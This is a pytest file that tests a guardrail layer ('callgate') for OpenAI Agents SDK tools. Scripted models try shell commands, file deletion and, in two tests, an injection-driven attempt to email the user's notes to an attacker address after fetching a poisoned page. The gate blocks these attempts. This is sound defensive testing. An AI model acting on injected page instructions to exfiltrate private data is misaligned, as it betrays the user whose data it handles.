"""The OpenAI Agents SDK's own ``Runner``, driven by its ``agents.testing.ScriptedModel``."""

from __future__ import annotations

import asyncio
import json
import sys
from pathlib import Path
from typing import Any

import pytest
from agents import (
    Agent,
    FunctionTool,
    Runner,
    ToolInputGuardrailTripwireTriggered,
    function_tool,
    set_tracing_disabled,
)
from agents.mcp import MCPServerStdio
from agents.testing import ScriptedModel, assistant_message, function_call

from callgate import Kernel
from callgate.integrations.adapters._gate import Gate
from callgate.integrations.adapters.openai_agents import CallgateGuardrails
from tests.integrations.adapters.conftest import (
    ATTACKER,
    INJECTED_PAGE,
    NOTES,
    BrokenGate,
    RecordingGate,
    Tools,
)

set_tracing_disabled(True)  # no trace export: there is no service to send traces to

SERVER = Path(__file__).parent / "data" / "mail_server.py"


def calls(*steps: list[tuple[str, dict[str, Any]]] | str) -> ScriptedModel:
    """A model that makes the scripted calls, one step a turn, then answers."""
    script: list[Any] = []
    for n, step in enumerate(steps):
        if isinstance(step, str):
            script.append([assistant_message(step)])
        else:
            script.append([function_call(name, args, call_id=f"call_{n}_{i}")
                           for i, (name, args) in enumerate(step)])
    return ScriptedModel(script)


def tool_outputs(model: ScriptedModel) -> dict[str, str]:
    """What each tool call gave the model, by call id, from the inputs the model was sent."""
    found: dict[str, str] = {}
    for call in model.calls:
        items = call.input if isinstance(call.input, list) else []
        for item in items:
            if isinstance(item, dict) and item.get("type") == "function_call_output":
                found[item["call_id"]] = str(item["output"])
    return found


def function_tools(tools: Tools) -> list[FunctionTool]:
    return [function_tool(f) for f in (tools.fetch_page, tools.read_notes, tools.send_email,
                                       tools.delete_file, tools.run_shell)]


def agent_for(model: ScriptedModel, tools: Tools, gate: Gate) -> Agent[Any]:
    guard = CallgateGuardrails(gate)
    return Agent(name="assistant", model=model, tools=guard.protect_all(function_tools(tools)))


def run(agent: Agent[Any], prompt: Any) -> Any:
    return asyncio.run(Runner.run(agent, prompt))


def test_an_allowed_call_runs_and_its_output_is_reported(gate: RecordingGate,
                                                         tools: Tools) -> None:
    model = calls([("read_notes", {})], "done")
    result = run(agent_for(model, tools, gate), "what are my notes?")
    assert result.final_output == "done"
    assert tool_outputs(model) == {"call_0_0": NOTES}
    assert gate.verdicts() == [("read_notes", "allow")]  # decided once
    assert [(r.status, r.output) for r in gate.reported] == [("ok", NOTES)]


def test_a_denied_call_is_rejected_with_the_reason_and_does_not_run(gate: RecordingGate,
                                                                    tools: Tools) -> None:
    model = calls([("run_shell", {"command": "id"})], "done")
    result = run(agent_for(model, tools, gate), "run id")
    assert result.final_output == "done" and tools.shell == []
    told = tool_outputs(model)["call_0_0"]
    assert "[no-shell] this assistant runs no shell commands" in told
    assert gate.reported == []


def test_require_approval_interrupts_and_runs_once_approved(gate: RecordingGate,
                                                            tools: Tools) -> None:
    model = calls([("delete_file", {"path": "old.txt"})], "deleted")
    agent = agent_for(model, tools, gate)
    first = run(agent, "delete old.txt")
    [asked] = first.interruptions
    assert asked.tool_name == "delete_file" and tools.deleted == []
    state = first.to_state()
    state.approve(asked)
    second = asyncio.run(Runner.run(agent, state))
    assert second.final_output == "deleted" and tools.deleted == ["old.txt"]
    assert gate.verdicts() == [("delete_file", "require-approval")]
    assert [r.call_id for r in gate.reported] == [gate.decisions[0].call_id]


def test_a_rejected_approval_never_runs(gate: RecordingGate, tools: Tools) -> None:
    model = calls([("delete_file", {"path": "old.txt"})], "kept")
    agent = agent_for(model, tools, gate)
    first = run(agent, "delete old.txt")
    state = first.to_state()
    state.reject(first.interruptions[0])
    asyncio.run(Runner.run(agent, state))
    assert tools.deleted == []


def test_an_injection_in_a_page_is_stopped_two_calls_later(gate: RecordingGate,
                                                           tools: Tools) -> None:
    model = calls([("fetch_page", {"url": "https://weather.example/today"})],
                  [("read_notes", {})],
                  [("send_email", {"to": ATTACKER, "body": NOTES})], "done")
    run(agent_for(model, tools, gate), "what is the weather?")
    assert tools.sent == []
    assert gate.verdicts() == [("fetch_page", "allow"), ("read_notes", "allow"),
                               ("send_email", "deny")]
    assert "no-recipient-from-web" in tool_outputs(model)["call_2_0"]


def test_a_quarantined_run_raises(policy: Any, tools: Tools, tmp_path: Any) -> None:
    kernel = Kernel(policy, working_dir=str(tmp_path), guards=[])
    model = calls(*([("run_shell", {"command": "id"})] for _ in range(6)), "done")
    with pytest.raises(ToolInputGuardrailTripwireTriggered):
        run(agent_for(model, tools, kernel), "run id, six times")
    assert kernel.run_state.quarantined and tools.shell == []


def test_a_gate_that_fails_refuses_every_call(tools: Tools) -> None:
    model = calls([("read_notes", {})], "done")
    run(agent_for(model, tools, BrokenGate()), "notes?")
    told = tool_outputs(model)["call_0_0"]
    assert "[adapter.error]" in told and NOTES not in told


def test_a_result_the_gate_cannot_record_is_withheld(gate: RecordingGate, tools: Tools,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*args: Any, **kwargs: Any) -> Any:
        raise OSError("disk full")

    monkeypatch.setattr(gate, "report", refuse)
    model = calls([("read_notes", {})], "done")
    run(agent_for(model, tools, gate), "notes?")
    told = tool_outputs(model)["call_0_0"]
    assert "withheld" in told and NOTES not in told


def test_arguments_that_are_not_an_object_are_refused_even_approved(gate: RecordingGate,
                                                                    tools: Tools) -> None:
    # the SDK asks a human about arguments it cannot validate; callgate still refuses them
    tool = CallgateGuardrails(gate).protect(function_tool(tools.read_notes))
    model = ScriptedModel([[function_call("read_notes", json.dumps([1, 2]), call_id="c")],
                           [assistant_message("done")]])
    agent = Agent(name="a", model=model, tools=[tool])
    first = asyncio.run(Runner.run(agent, "notes"))
    state = first.to_state()
    state.approve(first.interruptions[0])
    asyncio.run(Runner.run(agent, state))
    told = tool_outputs(model)["c"]
    assert "[adapter.error] the arguments of read_notes are not a mapping" in told
    assert gate.checked == []  # nothing to decide: refused before the gate


async def _run_with_mcp(model: ScriptedModel, gate: Gate, outbox: Path) -> Any:
    server = MCPServerStdio(params={"command": sys.executable, "args": [
        str(SERVER), "--outbox", str(outbox), "--page", INJECTED_PAGE, "--notes", NOTES]},
        cache_tools_list=True)
    CallgateGuardrails(gate).protect_mcp_server(server)
    async with server:
        agent = Agent(name="assistant", model=model, mcp_servers=[server])
        return await Runner.run(agent, "what is the weather?")


def test_a_local_mcp_servers_tools_pass_the_same_guardrails(gate: RecordingGate,
                                                            tmp_path: Path) -> None:
    outbox = tmp_path / "outbox.jsonl"
    model = calls([("fetch_page", {"url": "https://weather.example/today"})],
                  [("read_notes", {})],
                  [("send_email", {"to": ATTACKER, "body": NOTES})],
                  [("send_email", {"to": "me@home.example", "body": "sunny"})], "done")
    asyncio.run(_run_with_mcp(model, gate, outbox))
    assert gate.verdicts() == [("fetch_page", "allow"), ("read_notes", "allow"),
                               ("send_email", "deny"), ("send_email", "allow")]
    assert [json.loads(line)["to"] for line in outbox.read_text().splitlines()] == [
        "me@home.example"]
    assert "no-recipient-from-web" in tool_outputs(model)["call_2_0"]
    assert [r.output for r in gate.reported][:2] == [INJECTED_PAGE, NOTES]
